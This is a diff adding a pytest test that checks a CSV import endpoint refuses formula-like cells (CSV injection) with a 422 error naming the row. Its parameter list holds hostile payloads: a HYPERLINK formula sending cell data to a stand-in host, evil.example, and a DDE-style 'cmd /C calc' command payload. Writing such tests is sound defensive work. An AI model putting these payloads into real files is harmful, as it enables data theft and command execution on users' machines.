@@ -144,6 +144,38 @@ def test_a_huge_integer_in_an_imported_csv_is_a_422_naming_the_row(client):
     assert_error(response, response.status_code)
 
 
+STORES_HEADER = (
+    "store_id,store_name,region,store_size_sqft,location_tier,median_income,store_format\n"
+)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        " =1+1",
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "space"],
+)
+def test_imported_text_that_a_spreadsheet_would_run_is_refused_naming_the_row(client, cell):
+    """CSV injection: text starting like a formula never enters the database (422, nothing
+    changed), so no export or download can carry it into a planner's spreadsheet."""
+    before = client.get("/categories").json()
+    quoted = '"' + cell.replace('"', '""') + '"'
+    stores = STORES_HEADER + f"S900,Harbour,{quoted},1000,A,50000,mall\n"
+    response = client.post("/data/import", files={"stores": ("stores.csv", stores, "text/csv")})
+    error = assert_error(response, 422)
+    rows = error.details["problems"]
+    assert any(p["column"] == "region" and p["row"] == 2 for p in rows), rows
+    assert any("formula" in p["problem"] for p in rows), rows
+    assert client.get("/categories").json() == before
+
+
 async def join_after_a_huge_integer_frame(url: str) -> dict:
     async with websockets.connect(url, subprotocols=[Subprotocol("json.webpubsub.azure.v1")]) as ws:
         assert json.loads(await ws.recv())["event"] == "connected"
